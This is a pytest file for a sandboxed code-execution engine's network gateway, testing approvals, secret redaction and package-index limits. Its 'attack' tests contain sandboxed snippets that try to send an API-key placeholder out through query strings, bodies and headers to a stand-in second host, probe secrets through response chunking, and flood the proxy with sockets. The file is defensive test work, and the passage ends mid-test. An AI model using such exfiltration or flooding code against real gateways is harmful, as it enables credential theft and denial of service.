"""Programs in containers that reach the network by permission: real containers, real servers on
loopback."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import json
import ssl
import tarfile
import zipfile
from collections.abc import AsyncIterator, Iterator, Mapping
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from importlib import metadata
from pathlib import Path
from typing import Any
from urllib.parse import quote

import anyio
import pytest

from conftest import NPM, ready_image
from fumehood import Config, Engine, Envelope
from fumehood.approvals.model import Approval, ApprovalQuery, NewDecision, RememberWish
from fumehood.budgets.settings import BudgetRule
from fumehood.core.errors import InvalidParams
from fumehood.core.tool import ToolDefinition
from fumehood.gateway.authority import Authority
from fumehood.gateway.settings import GatewaySettings, ListedPackages
from fumehood.identity.model import Agent, Binding
from fumehood.registry.secrets import SecretSettings
from fumehood.sandbox.settings import ContainerSettings, LanguageImages
from fumehood.sight.in_engine import Sight
from support.asking import ALICE, NO, YES, add_approvers
from support.gateway import FETCH, gateway_part, names_here
from support.wait import DEADLINE_S
from support.wheels import write_wheel
from upstream import Reply, Upstream, packed, running_upstream

pytestmark = [
    pytest.mark.anyio, pytest.mark.needs("docker"), pytest.mark.usefixtures("python_image")
]  # fmt: skip

HOST = "api.example.test"
OTHER = "other.example.test"
INDEX = "index.example.test"
NAMES = (HOST, OTHER, INDEX)
NPM_ITSELF = NPM.parent / "npm"
SECRET = "s3cret-of-the-api/1"
OF_A_TOOL = "an0ther-of-the-api/2"
FETCHING = (Path(__file__).parents[1] / "support/mcp_upstream/fetching.py").read_text()
FETCHER = {
    "command": ["/usr/bin/python3", "-c", FETCHING], "network": [HOST], "harmless": ["fetch"],
}  # fmt: skip


@pytest.fixture(scope="module", autouse=True)
def names() -> Iterator[None]:
    with names_here(*NAMES):
        yield


@pytest.fixture(scope="module")
def monkeypatch_module() -> Iterator[pytest.MonkeyPatch]:
    with pytest.MonkeyPatch.context() as patch:
        yield patch


@pytest.fixture(scope="module")
def their_authority() -> Authority:
    """The authority of the servers."""
    return Authority(None)


@pytest.fixture(scope="module")
async def engine(
    tmp_path_factory: pytest.TempPathFactory,
    their_authority: Authority,
    monkeypatch_module: pytest.MonkeyPatch,
) -> AsyncIterator[Engine]:
    directory = tmp_path_factory.mktemp("home")
    config = Config(
        home=directory,
        gateway=GatewaySettings(
            hosts=(HOST, OTHER, "unasked.test"),
            indexes={"own": (INDEX,), "npm": (INDEX,)},
            packages={
                "own": ListedPackages(python=("hello",)),
                "npm": ListedPackages(npm=("hello",)),
            },
            allowed_hosts=(HOST, INDEX),
            max_mb=20,
        ),
        secrets={
            "api": SecretSettings(
                env="API_KEY", hosts=(HOST,), inside="API_KEY", headers=("X_Key",)
            ),
            "lax": SecretSettings(env="API_KEY", hosts=(HOST,), inside="LAX", misuse="pass"),
            "strict": SecretSettings(env="API_KEY", hosts=(HOST,), inside="STRICT", misuse="end"),
            "other": SecretSettings(env="API_KEY", hosts=("unasked.test",), inside="OTHER"),
            "rest": SecretSettings(env="REST_KEY", hosts=(f"{HOST}:443",), tools=("a_tool",)),
        },
        container=ContainerSettings(pool_min=0, images=LanguageImages(python="python")),
        mcp_servers={"fetcher": FETCHER},
    )
    monkeypatch_module.setenv("API_KEY", SECRET)
    monkeypatch_module.setenv("REST_KEY", OF_A_TOOL)
    reads = ToolDefinition(
        name="read_it", description="Run a program that reads.", executor="code:python",
        parameters={"properties": {"code": {"type": "string"}}}, network=(HOST,),
    )  # fmt: skip
    engine = Engine([reads], config=config)
    gateway_part(engine).tls = ssl.create_default_context(cadata=their_authority.certificate)
    async with engine:
        await add_approvers(engine)
        yield engine


@pytest.fixture
def upstream_tls(their_authority: Authority) -> Iterator[Upstream]:
    with running_upstream(their_authority.context_for(HOST)) as running:
        yield running


def url(server: Upstream, path: str = "/", host: str = HOST) -> str:
    return f"{server.url.partition(':')[0]}://{host}:{server.port}{path}"


async def run(
    engine: Engine, code: str, *, network: list[str] | None = None, **options: Any
) -> Any:
    """Run a program with network, and return its envelope."""
    hosts = [HOST] if network is None else network
    return await engine.call("run_python", {"code": FETCH + code}, network=hosts, **options)


def used(answer: Envelope) -> Any:
    assert answer.metadata.sandbox is not None
    assert answer.metadata.sandbox.network is not None
    return answer.metadata.sandbox.network


@contextmanager
def _allowed(engine: Engine, host: str) -> Iterator[None]:
    """Let a host have an address that is not public."""
    backend = gateway_part(engine).gateway._backend
    backend._allowed_hosts |= {host}
    yield
    backend._allowed_hosts -= {host}


async def waiting(engine: Engine) -> Approval:
    """The request that waits for a human."""
    with anyio.fail_after(DEADLINE_S):
        while not (found := (await engine.approvals.list(ApprovalQuery(state="pending"))).items):
            await anyio.sleep(0.02)
    return found[0]


async def decide(engine: Engine, approval: Approval, decision: NewDecision) -> None:
    await engine.approvals.decide(approval.id, decision, ALICE, channel="test")


async def test_program_reads_from_a_host_that_its_call_names(
    engine: Engine, upstream: Upstream, upstream_tls: Upstream
) -> None:
    for server in (upstream, upstream_tls):
        answer = await run(engine, f"fetch({url(server, '/now?city=Bern')!r})[0]")
        assert answer.data["value"] == 200
        (request,) = server.requests
        assert (request.target, request.headers["host"]) == (
            "/now?city=Bern", f"{HOST}:{server.port}",
        )  # fmt: skip
        use = used(answer)
        assert (use.requests, use.denied, use.held, use.hosts) == (1, 0, 0, {HOST: 1})
        assert use.bytes_in > 0
        assert use.bytes_out > 0
        record = await engine.call_record(answer.metadata.call_id)
        assert record.network == use


async def test_write_is_sent_once_after_a_yes_exactly_as_it_was_shown(
    engine: Engine, upstream: Upstream
) -> None:
    code = f"import time\nbegun = time.monotonic()\nfetch({url(upstream, '/orders')!r}, b'one=1', Accept='text/plain')[0]"
    running = asyncio.ensure_future(run(engine, code, wait_for_approval=120, timeout_seconds=1))
    approval = await waiting(engine)
    shown = approval.arguments
    assert approval.tool == "net"
    assert (shown["method"], shown["path"], shown["body"]) == ("POST", "/orders", "one=1")
    # Its program waits no longer, so it could not be sent later.
    assert approval.expires_at - approval.created_at <= timedelta(seconds=120)
    assert shown["headers"]["accept"] == "text/plain"
    assert upstream.requests == []
    await asyncio.sleep(1.2)  # the program's clock stands still
    await decide(engine, approval, YES)
    answer = await running
    assert answer.data["value"] == 200
    (request,) = upstream.requests
    assert (request.method, request.body) == ("POST", b"one=1")
    assert (used(answer).held, used(answer).denied) == (1, 0)


async def test_equal_writes_are_asked_about_one_by_one(engine: Engine, upstream: Upstream) -> None:
    code = f"""
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(2) as threads:
    statuses = list(threads.map(lambda _: fetch({url(upstream)!r}, b'x')[0], range(2)))
statuses
"""
    running = asyncio.ensure_future(run(engine, code))
    for _ in range(2):
        await decide(engine, await waiting(engine), YES)
        await asyncio.sleep(0.2)
    assert (await running).data["value"] == [200, 200]
    assert len(upstream.requests) == 2


async def test_matching_writes_are_remembered_and_sent_without_another_question(
    engine: Engine, upstream: Upstream
) -> None:
    """Twin: another path asks again. A rule with less than method and place is refused."""
    orders, other = url(upstream, "/orders"), url(upstream, "/other")
    running = asyncio.ensure_future(run(engine, f"fetch({orders!r}, b'one')[0]"))
    approval = await waiting(engine)
    until = datetime.now(UTC) + timedelta(hours=1)
    loose = RememberWish(scope="until", until=until, arguments=("method", "host"))
    with pytest.raises(InvalidParams, match="or at least host, method, path, port"):
        await decide(engine, approval, YES.model_copy(update={"remember": loose}))
    names = ("method", "host", "port", "path")
    wish = loose.model_copy(update={"arguments": names})
    await decide(engine, approval, YES.model_copy(update={"remember": wish}))
    assert (await running).data["value"] == 200
    answer = await run(engine, f"fetch({orders!r}, b'two', X='y')[0]", wait_for_approval=1)
    assert answer.data["value"] == 200
    answer = await run(engine, f"fetch({other!r}, b'two')[0]", wait_for_approval=1)
    assert answer.data["value"] == 403
    assert [one.body for one in upstream.requests] == [b"one", b"two"]


async def test_request_that_waits_cannot_be_edited_and_is_not_sent_after_a_no(
    engine: Engine, upstream: Upstream
) -> None:
    running = asyncio.ensure_future(run(engine, f"fetch({url(upstream)!r}, b'x')"))
    approval = await waiting(engine)
    other = NewDecision(decision="approve", arguments={**approval.arguments, "body": "y"})
    with pytest.raises(InvalidParams, match="as it is, or not at all"):
        await decide(engine, approval, other)
    await decide(engine, approval, NO)
    status, told = (await running).data["value"]
    assert (status, "needed tomorrow" in told) == (403, True), told
    assert upstream.requests == []


async def test_nobody_else_can_call_net(engine: Engine) -> None:
    answer = await engine.call("net", {"method": "POST", "url": "http://x.test/"})
    assert answer.error is not None
    assert answer.error.code == "TOOL_NOT_FOUND"


async def test_attack_yes_after_the_program_ended_sends_nothing(
    engine: Engine, upstream: Upstream
) -> None:
    code = f"fetch({url(upstream)!r}, b'x')"
    running = asyncio.ensure_future(run(engine, code, wait_for_approval=True))
    approval = await waiting(engine)
    running.cancel()
    with pytest.raises(asyncio.CancelledError):
        await running
    with anyio.fail_after(DEADLINE_S):
        while (found := await engine.approvals.show(approval.id)).ended_at is None:
            await anyio.sleep(0.02)
    assert found.state == "cancelled"
    assert upstream.requests == []


async def test_attack_program_that_ends_while_its_write_is_sent_leaves_nothing_behind(
    engine: Engine, upstream: Upstream
) -> None:
    upstream.script("/slow", Reply(held=True))
    code = f"fetch({url(upstream, '/slow')!r}, b'x')"
    running = asyncio.ensure_future(run(engine, code, timeout_seconds=8))
    approval = await waiting(engine)
    await decide(engine, approval, YES)
    answer = await running  # its time goes on while it is sent
    assert answer.error is not None
    assert answer.error.code == "TIMEOUT"
    with anyio.fail_after(DEADLINE_S):
        while (await engine.approvals.show(approval.id)).ended_at is None:
            await anyio.sleep(0.02)
    assert upstream.count("/slow") == 1
    assert engine._made.approvals.requests.held == {}


async def test_large_bodies_pass_both_ways_up_to_the_limit_of_the_call(
    engine: Engine, upstream: Upstream
) -> None:
    size = 6 << 20
    upstream.script("/big", Reply(body=b"x" * size, content_type="application/octet-stream"))
    code = f"len(fetch({url(upstream, '/big')!r})[1])"
    assert (await run(engine, code)).data["value"] == size
    code = f"[fetch({url(upstream, '/big')!r})[0] for _ in range(4)]"
    answer = await run(engine, code)
    assert answer.error is not None or answer.data["value"][-1] != 200
    assert "at most 20 MB" in answer.metadata.warnings[0]


async def test_many_connections_at_once_are_all_served(engine: Engine, upstream: Upstream) -> None:
    code = f"""
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(40) as threads:
    statuses = list(threads.map(lambda number: fetch({url(upstream)!r})[0], range(80)))
statuses.count(200)
"""
    answer = await run(engine, code)
    assert answer.data["value"] == 80
    assert used(answer).requests == 80


HTTPS = """
new Promise((done, failed) => require("https").get({url!r}, answer => {{
  let text = "";
  answer.on("data", piece => text += piece).on("end", () => done(text));
}}).on("error", failed))
"""

HTTPX = """
import sys; sys.path.insert(0, "packed.zip")
import httpx2
httpx2.get({url!r}).text
"""

REQUESTS = """
import sys; sys.path.insert(0, "packed.zip")
import requests
requests.get({url!r}).text
"""

AIOHTTP = """
import asyncio, os, sys; sys.path.insert(0, "packed.zip")
for one in "AIOHTTP FROZENLIST MULTIDICT PROPCACHE YARL".split():
    os.environ[one + "_NO_EXTENSIONS"] = "1"
import aiohttp
async def get():
    async with aiohttp.ClientSession(trust_env=True) as client, client.get({url!r}) as answer:
        return await answer.text()
asyncio.run(get())
"""

PACKED = {
    "requests": ("requests", "urllib3", "idna", "certifi"),
    "httpx": (
        "httpx2", "httpcore2", "h11", "anyio", "idna", "truststore", "typing_extensions",
    ),
    "aiohttp": (
        "aiohttp", "aiohappyeyeballs", "aiosignal", "attrs", "frozenlist", "idna", "multidict",
        "propcache", "typing_extensions", "yarl",
    ),
}  # fmt: skip
"""Clients that the images lack: themselves, and what they need."""

CLIENTS = {
    "requests": ("run_python", REQUESTS),
    "curl": ("run_shell", "curl -fsS '{url}'"),
    "fetch": ("run_javascript", "fetch({url!r}).then(answer => answer.text())"),
    "https": ("run_javascript", HTTPS),
    "fetch in a shell": (
        "run_shell",
        "node -e \"fetch('{url}').then(a => a.text()).then(console.log)\"",
    ),
    "git": ("run_shell", "git ls-remote '{url}' | cut -f2"),
    "httpx": ("run_python", HTTPX),
    "aiohttp": ("run_python", AIOHTTP),
}
"""Each client finds the gateway, and trusts its certificate, in a way of its own."""


@pytest.mark.parametrize("client", CLIENTS)
async def test_client_finds_the_gateway_by_itself(
    engine: Engine, upstream_tls: Upstream, client: str
) -> None:
    upstream_tls.script("/told", Reply(body=b"hello"))
    # *Source*: git's documentation, gitprotocol-http, "Dumb Clients".
    refs = b"a" * 40 + b"\trefs/heads/hello\n"
    upstream_tls.script("/told/info/refs", Reply(body=refs, content_type="text/plain"))
    upstream_tls.script("/told/HEAD", Reply(body=b"ref: refs/heads/hello\n"))
    tool, code = CLIENTS[client]
    argument = "command" if tool == "run_shell" else "code"
    files = [archive_of("packed.zip", *PACKED[client])] if client in PACKED else []
    answer = await engine.call(
        tool, {argument: code.format(url=url(upstream_tls, "/told")), "files": files},
        network=[HOST],
    )  # fmt: skip
    assert answer.error is None, answer.error
    assert "hello" in (answer.data.get("value") or answer.data["stdout"])
    assert used(answer).hosts[HOST] > 0


async def test_secret_is_put_in_on_the_way_out_and_taken_out_of_the_answer(
    engine: Engine, upstream: Upstream, upstream_tls: Upstream
) -> None:
    for server in (upstream, upstream_tls):
        code = f"""
import base64, os
key = os.environ["API_KEY"]
bearer = fetch({url(server)!r}, Authorization="Bearer " + key)
basic = "Basic " + base64.b64encode(("me:" + key).encode()).decode()
both = fetch({url(server)!r}, Authorization=basic, X_Key=key)
print(key, os.environ.get("OTHER"))
bearer, both
"""
        answer = await run(engine, code)
        first, second = server.requests
        assert first.headers["authorization"] == f"Bearer {SECRET}"
        login = base64.b64encode(f"me:{SECRET}".encode()).decode()
        assert second.headers["authorization"] == f"Basic {login}"
        told = answer.model_dump_json()
        assert SECRET not in told
        assert login not in told
        assert "[redacted]" in told
        placeholder, other = answer.data["stdout"].split()
        assert (placeholder[:4], other) == ("fhs_", "None")  # not asked for, so not there


async def test_attack_placeholder_anywhere_else_is_refused_and_recorded(
    engine: Engine, upstream: Upstream
) -> None:
    """Twin: the header of the right host, above."""
    before = len(await engine.audit.page(0, 10_000))
    code = f"""
import base64, os
key, url = os.environ["API_KEY"], {url(upstream, "/")!r}
basic = "Basic " + base64.b64encode(key.encode()).decode()
[
    fetch(url + "?key=" + key),
    fetch(url + key),
    fetch(url, ("x" * 65_500 + key).encode(), Accept="text/plain"),
    fetch(url.replace("api.", "other."), Authorization="Bearer " + key),
    fetch(url.replace("api.", "other."), Authorization=basic),
]
"""
    answer = await run(engine, code, network=[HOST, OTHER], wait_for_approval=False)
    assert len(answer.data["value"]) == 5
    for status, told in answer.data["value"]:
        assert (status, "placeholder of the secret 'api'" in told) == (403, True), told
    assert not any(request.body or "fhs_" in request.target for request in upstream.requests)
    rows = await engine.audit.page(before, 100)
    assert ["net.refused" in row.body for row in rows[:5]] == [True] * 5


async def test_attack_misused_placeholder_ends_the_program_if_the_operator_says_so(
    engine: Engine, upstream: Upstream
) -> None:
    """Twin: the right header. An alert fires, and a session goes on with its next call."""
    session = await engine.sessions.create(engine.owner, image="python")
    code = f"import os, time\nkey, url = os.environ['STRICT'], {url(upstream, '/')!r}\n"
    fine = await run(engine, code + "fetch(url, Authorization=key)[0]", session_id=session.id)
    assert fine.data["value"] == 200
    answer = await run(
        engine,
        code + "open('kept', 'w').write('it')\nprint('begun')\nfetch(url + key)\ntime.sleep(60)",
        session_id=session.id,
    )
    assert answer.error is not None
    assert (answer.error.code, answer.metadata.sandbox.ended_by) == ("SANDBOX_VIOLATION", "policy")
    assert "placeholder of the secret 'strict'" in answer.error.message
    assert answer.error.details["stdout"] == "begun\n"
    assert used(answer).misused == 1
    assert upstream.count("/") == 1
    again = await run(engine, "open('kept').read()", session_id=session.id)
    assert again.data["value"] == "it"
    alerts = {one.name: one for one in engine.part(Sight).alerts.look().alerts if one.tool is None}
    assert alerts["secret_misuse"].firing
    await engine.sessions.end(engine.owner, session.id)


async def test_attack_placeholder_that_may_pass_goes_on_as_harmless_text(
    engine: Engine, upstream: Upstream
) -> None:
    """Also in a header to another host. Twin: the right host gets the value."""
    with running_upstream() as other:
        code = f"""
import os
key = os.environ["LAX"]
statuses = [
    fetch({url(upstream)!r} + "?" + key)[0],
    fetch({url(upstream)!r}, Authorization="Bearer " + key)[0],
    fetch({url(other, host=OTHER)!r}, Authorization="Bearer " + key)[0],
]
statuses
"""
        with _allowed(engine, OTHER):
            answer = await run(engine, code, network=[HOST, OTHER])
        assert answer.data["value"] == [200, 200, 200]
        assert upstream.requests[0].query.startswith("fhs_")
        assert upstream.requests[1].headers["authorization"] == f"Bearer {SECRET}"
        assert other.requests[0].headers["authorization"].startswith("Bearer fhs_")


async def test_packed_answer_to_a_request_with_a_secret_is_refused(
    engine: Engine, upstream: Upstream
) -> None:
    upstream.script("/", packed(SECRET.encode()))
    code = f"import os\nfetch({url(upstream, '/')!r}, X_Key=os.environ['API_KEY'])"
    answer = await run(engine, code)
    assert answer.data["value"][0] == 502
    assert "compressed its answer" in answer.data["value"][1]


async def test_attack_later_answer_has_no_value_of_any_secret_of_its_host(
    engine: Engine, upstream: Upstream
) -> None:
    """Also of one that only a REST tool may use, on another port, and for other tools. Twin: a host
    without secrets is not searched, and its answers can come in parts.
    """
    for path, body in (("/kept", SECRET), ("/of-a-tool", OF_A_TOOL), ("/none", "hello")):
        upstream.script(path, Reply(body=body.encode(), headers={"x-kept": body}))
    code = f"""
url = {url(upstream)!r}
[fetch(url + path) for path in ("kept", "of-a-tool", "none")] + [
    fetch(url + "none", **{{name: "bytes=0-1"}})[0]
    for name in ("Range", "Request-Range", "REQUEST_RANGE", "If-Range", "x-ms-range")
]
"""
    answer = await run(engine, code)
    assert answer.data["value"] == [
        [200, "[redacted]"], [200, "[redacted]"], [200, "hello"], *[403] * 5
    ]  # fmt: skip
    assert upstream.requests[-1].headers["accept-encoding"] == "identity"
    assert used(answer).denied == 5
    upstream.script("/part", Reply(206, body=b"hell", headers={"content-range": "bytes 0-3/5"}))
    answer = await run(engine, f"fetch({url(upstream, '/part')!r})")
    assert answer.data["value"][0] == 502
    assert "sent a part of its answer" in answer.data["value"][1]
    with _allowed(engine, OTHER):
        code = f"fetch({url(upstream, '/part', OTHER)!r}, Range='bytes=0-3')"
        answer = await run(engine, code, network=[OTHER])
    assert answer.data["value"] == [206, "hell"]
    assert upstream.requests[-1].headers["range"] == "bytes=0-3"


async def test_attack_pieces_and_names_of_headers_tell_nothing_of_a_secret(
    engine: Engine, upstream: Upstream
) -> None:
    """A program that can choose a host's answer would guess a secret by its characters: what may
    begin one came in a piece of its own. Twin: a whole line comes at once.
    """
    upstream.script("/begun", Reply(body=b"what is it: " + SECRET[:5].encode()))
    upstream.script("/other", Reply(body=b"what is it: " + b"~" * 5))
    upstream.script("/line", Reply(body=b"what is it\n"))
    named = {f"X-{quote(SECRET, safe='').title()}": "1", "X-Other": "2"}
    upstream.script("/name", Reply(body=b"hello", headers=named))
    code = f"""
import http.client
def pieces(path):
    host = http.client.HTTPConnection("localhost", int(os.environ["HTTP_PROXY"].rsplit(":")[-1]))
    host.request("GET", {url(upstream)!r} + path)
    answer = host.getresponse()
    return [len(piece) for piece in iter(answer.read1, b"")], sorted(answer.headers)
begun, other, line = (pieces(path)[0] for path in ("begun", "other", "line"))
[begun == other, line, [name for name in pieces("name")[1] if name.startswith("x-")]]
"""
    answer = await run(engine, code)
    assert answer.data["value"] == [True, [11], ["x-other"]]


async def test_attack_websocket_to_a_host_with_a_secret_is_refused_before_anybody_is_asked(
    engine: Engine, upstream: Upstream
) -> None:
    code = f"""
fetch({url(upstream)!r}, Connection="upgrade", Upgrade="websocket",
    **{{"Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version": "13"}})
"""
    answer = await run(engine, code)
    assert answer.data["value"][0] == 403
    assert "no WebSocket is opened" in answer.data["value"][1]
    assert upstream.requests == []


async def test_refused_secret_names_what_would_allow_it(engine: Engine, upstream: Upstream) -> None:
    """Twin: the same requests with the header, and to the host, that are allowed, above."""
    code = f"""
import os
key, url = os.environ["API_KEY"], {url(upstream)!r}
[fetch(url, X_Note=key)[1], fetch("http://unasked.test", Authorization=os.environ["OTHER"])[1]]
"""
    answer = await run(engine, code, network=[HOST, "unasked.test"])
    header, plain = answer.data["value"]
    assert "authorization, x_key (secrets.api.headers)" in header
    assert "gateway.allowed_hosts" in plain
    assert upstream.requests == []


async def test_answer_that_its_service_cut_is_not_counted_as_refused(
    engine: Engine, upstream: Upstream
) -> None:
    """Nor a host that cannot be reached. Control: what the gateway refuses is counted."""
    before = len(await engine.audit.page(0, 10_000))
    upstream.script("/cut", Reply(body=b"x" * 90_000, reset_after=10_000))
    code = f"""
try: fetch({url(upstream, "/cut")!r})
except OSError as error: print(type(error).__name__)
except Exception as error: print(type(error).__name__)
fetch("http://{HOST}:1/")[0]
"""
    answer = await run(engine, code)
    assert answer.data["value"] == 502
    assert answer.data["stdout"] == "IncompleteRead\n"
    assert used(answer).denied == 0
    assert [one.split(" of the")[0] for one in answer.metadata.warnings] == ["1", "1"]
    assert all("requests failed: " in one for one in answer.metadata.warnings)
    rows = await engine.audit.page(before, 100)
    assert not any("net.refused" in row.body for row in rows)
    refused = await run(engine, f"fetch({url(upstream)!r}, b'1')[0]", wait_for_approval=False)
    assert (refused.data["value"], used(refused).denied) == (403, 1)


async def test_approver_sees_every_value_of_a_repeated_header(
    engine: Engine, upstream: Upstream
) -> None:
    code = f"""
import http.client, os, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["http_proxy"])
client = http.client.HTTPConnection(proxy.hostname, proxy.port)
client.putrequest("POST", {url(upstream)!r}, skip_host=True)
client.putheader("Host", "{HOST}:{upstream.port}")
client.putheader("X-Amount", "1000000")
client.putheader("X-Amount", "1")
client.putheader("Content-Length", "0")
client.endheaders()
client.getresponse().status
"""
    running = asyncio.ensure_future(run(engine, code))
    approval = await waiting(engine)
    assert approval.arguments["headers"]["x-amount"] == "1000000, 1"
    await decide(engine, approval, NO)
    assert (await running).data["value"] == 403


async def test_slow_answer_to_an_approved_write_reaches_its_program(
    engine: Engine, upstream: Upstream
) -> None:
    """Also if it takes longer than the caller wanted to wait for the approval."""
    upstream.script("/slow", Reply(body=b"late", drip_s=0.4))
    code = f"fetch({url(upstream, '/slow')!r}, b'x'), fetch({url(upstream, '/next')!r})[0]"
    running = asyncio.ensure_future(run(engine, code, wait_for_approval=1))
    await asyncio.sleep(0.2)
    await decide(engine, await waiting(engine), YES)
    answer = await running
    assert answer.data["value"] == [[200, "late"], 200]
    assert upstream.count("/slow") == 1


async def test_question_that_nobody_answers_is_withdrawn_and_the_program_goes_on(
    engine: Engine, upstream: Upstream
) -> None:
    code = f"""
import http.client, os, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["http_proxy"])
client = http.client.HTTPConnection(proxy.hostname, proxy.port)
def ask(method):
    client.request(method, {url(upstream)!r}, headers={{"Host": "{HOST}:{upstream.port}"}})
    answer = client.getresponse()
    return answer.status, answer.read().decode()
ask("DELETE"), ask("GET")[0]
"""
    answer = await run(engine, code, wait_for_approval=1)
    (status, told), after = answer.data["value"]
    assert (status, after) == (403, 200)
    assert "No human decided" in told
    assert [request.method for request in upstream.requests] == ["GET"]
    assert (await engine.approvals.list(ApprovalQuery(state="pending"))).items == ()


async def test_attack_hundreds_of_connections_leave_the_session_alive(
    engine: Engine, upstream: Upstream
) -> None:
    session = await engine.sessions.create(engine.owner, image="python")
    code = """
import os, socket, time
for _ in range(2):
    if os.fork() == 0:
        kept = [socket.socket() for _ in range(200)]
        for one in kept:
            one.setblocking(False)
            one.connect_ex(("127.0.0.1", 3128))
        time.sleep(1)
        os._exit(0)
time.sleep(1.5)
x = 1
"""
    answer = await engine.call("run_python", {"code": code}, network=[HOST], session_id=session.id)
    assert answer.error is None, answer.error
    after = await engine.call("run_python", {"code": "x"}, session_id=session.id)
    assert after.data["value"] == 1


async def test_attack_connections_of_a_call_without_network_are_not_the_next_calls(
    engine: Engine, upstream: Upstream
) -> None:
    session = await engine.sessions.create(engine.owner, image="python")
    request = (
        f"GET {url(upstream, '/stale')} HTTP/1.1\\r\\nHost: {HOST}:{upstream.port}\\r\\n\\r\\n"
    )
    stale = f"""
import socket
for _ in range(200):
    one = socket.socket()
    one.setblocking(False)
    one.connect_ex(("127.0.0.1", 3128))
    try: one.send(b"{request}")
    except OSError: pass
"""
    both = asyncio.gather(
        engine.call("run_python", {"code": stale}, session_id=session.id),
        engine.call(
            "run_python", {"code": "import time; time.sleep(0.5)"}, network=[HOST],
            session_id=session.id,
        ),
    )  # fmt: skip
    _, second = await both
    assert used(second).requests == 0
    assert upstream.requests == []


async def test_program_in_a_session_has_network_only_in_calls_that_ask_for_it(
    engine: Engine, upstream: Upstream
) -> None:
    session = await engine.sessions.create(engine.owner, image="python")
    code = FETCH + f"fetch({url(upstream)!r})[0]"
    first = await engine.call("run_python", {"code": code}, network=[HOST], session_id=session.id)
    assert first.data["value"] == 200
    second = await engine.call("run_python", {"code": code}, session_id=session.id)
    assert second.error is not None
    assert second.metadata.sandbox.network is None
    third = await engine.call("run_python", {"code": code}, network=[HOST], session_id=session.id)
    assert third.data["value"] == 200
    assert len(upstream.requests) == 2


async def test_pip_installs_from_an_index_that_the_operator_names_in_a_session(
    engine: Engine, their_authority: Authority, tmp_path: Path
) -> None:
    """Control: without the index's name its host is not allowed; another one does not exist, and
    another package is not on the operator's list.
    """
    wheel = write_wheel(tmp_path, "hello")
    page = f'<!DOCTYPE html><a href="/files/{wheel.name}">{wheel.name}</a>'.encode()
    with running_upstream(their_authority.context_for(INDEX)) as index:
        index.script("/simple/hello/", Reply(body=page, content_type="text/html"))
        index.script(f"/files/{wheel.name}", Reply(body=wheel.read_bytes()))
        command = (
            f"python3 pip.zip/pip install --no-cache-dir --retries 0 --target lib --index-url "
            f"{url(index, '/simple', INDEX)} hello >log 2>&1 || {{ tail -3 log; exit 1; }}\n"
            "PYTHONPATH=lib python3 -c 'import hello; print(hello.VERSION)'"
        )
        me = engine.owner
        session = await engine.sessions.create(me, image="python", network=["@own"])
        answer = await engine.call(
            "run_shell", {"command": command, "files": [archive_of("pip.zip", "pip")]}, session_id=session.id,
            timeout_seconds=60,
        )  # fmt: skip
        assert answer.error is None, answer.error
        assert answer.data["stdout"] == "1.0\n"
        await engine.sessions.end(me, session.id)
        count = len(index.requests)
        for wish, package, says in (
            (INDEX, "hello", f"does not allow {INDEX}"), ("@own", "other", "this package"),
        ):  # fmt: skip
            code = f"fetch({url(index, f'/simple/{package}/', INDEX)!r})"
            status, told = (await run(engine, code, network=[wish])).data["value"]
            assert (status, says in told) == (403, True), told
        refused = await run(engine, "0", network=["@none"])
        assert refused.error is not None
        assert "the package index @none" in refused.error.message
        assert len(index.requests) == count


@pytest.mark.needs("npm")
async def test_npm_installs_from_an_index_that_the_operator_names_in_a_session(
    engine: Engine, their_authority: Authority
) -> None:
    """Control: as of pip."""
    await anyio.to_thread.run_sync(ready_image, "node")
    package = tarball({
        "package/package.json": b'{"name": "hello", "version": "1.0.0", "main": "main.js"}',
        "package/main.js": b'module.exports = "1.0.0"',
    })  # fmt: skip
    digest = base64.b64encode(hashlib.sha512(package).digest()).decode()
    files = {
        f"npm/{path.relative_to(NPM_ITSELF)}": path.read_bytes()
        for path in NPM_ITSELF.rglob("*")
        if path.is_file() and path.suffix in ("", ".js", ".cjs", ".json")
    }
    with running_upstream(their_authority.context_for(INDEX)) as index:
        version = {"name": "hello", "version": "1.0.0"} | {
            "dist": {
                "tarball": url(index, "/hello/-/hello-1.0.0.tgz", INDEX),
                "integrity": f"sha512-{digest}",
            }
        }
        listed = {"name": "hello", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
        index.script("/hello", Reply(body=json.dumps(listed).encode()))
        index.script(
            "/hello/-/hello-1.0.0.tgz", Reply(body=package, content_type="application/octet-stream")
        )
        command = (
            f"tar xzf npm.tgz && node npm/bin/npm-cli.js install --cache cache --fetch-retries 0 "
            f"--registry {url(index, '/', INDEX)} hello >log 2>&1 || {{ tail -5 log; exit 1; }}\n"
            "node -p 'require(\"hello\")'"
        )
        npm = {"path": "npm.tgz", "content_base64": base64.b64encode(tarball(files)).decode()}
        me = engine.owner
        session = await engine.sessions.create(me, image="node", network=["@npm"], memory_mb=512)
        answer = await engine.call(
            "run_shell", {"command": command, "files": [npm]}, session_id=session.id,
            timeout_seconds=100,
        )  # fmt: skip
        assert answer.error is None, answer.error
        assert answer.data["stdout"] == "1.0.0\n"
        await engine.sessions.end(me, session.id)


def tarball(files: Mapping[str, bytes]) -> bytes:
    content = io.BytesIO()
    with tarfile.open(fileobj=content, mode="w:gz") as archive:
        for name, data in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(data)
            archive.addfile(member, io.BytesIO(data))
    return content.getvalue()


def archive_of(name: str, *distributions: str) -> dict[str, str]:
    """Packages of this environment, which Python runs out of an archive."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for one in distributions:
            for file in metadata.files(one) or ():
                if file.suffix in (".py", ".pem", ".typed", ".txt", "") and ".." not in file.parts:
                    archive.write(file.locate(), file)
    return {"path": name, "content_base64": base64.b64encode(content.getvalue()).decode()}


async def test_session_agent_and_tool_ask_for_hosts_for_their_programs(
    engine: Engine, upstream: Upstream
) -> None:
    """Control: without any of them the same program has no network."""
    code = {"code": FETCH + f"fetch({url(upstream)!r})[0]"}
    me = engine.owner
    session = await engine.sessions.create(me, image="python", network=[HOST])
    agent = Agent(id="reader", principals=(me.id,), network=(HOST,))
    await engine.agents.create(agent, by=me, now=engine.now())
